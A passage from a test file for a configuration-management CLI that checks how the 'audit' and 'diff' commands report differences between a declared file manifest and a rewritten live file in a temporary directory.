      "nodes/localhost.yaml": "{}\n",
    });
    const live = path.join(dir, "rewritten.conf");
    await writeFile(live, "b\n".repeat(lines));
    // Declared as a JSON string: three bytes a line keeps the manifest under its 1 MiB cap.
    await writeFile(
      path.join(dir, "nodes/localhost.yaml"),
      `files:\n  - path: ${live}\n    contents: ${JSON.stringify("a\n".repeat(lines))}\n`,
    );
    for (const args of [
      ["audit", "--local", "--manifests", dir, "--format", "text"],
      ["diff", "--category", "files", "--local", "--manifests", dir],
    ]) {
      const result = await runCli(args);
      assert.equal(result.exitCode, 1, `${args[0]}: ${result.stderr.slice(0, 2000)}`);
      const out = result.stdout.split("\n");
      assert.equal(out.filter((l) => /^ *-a$/.test(l)).length, lines, args[0]);
      assert.equal(out.filter((l) => /^ *\+b$/.test(l)).length, lines, args[0]);
    }
  });
});
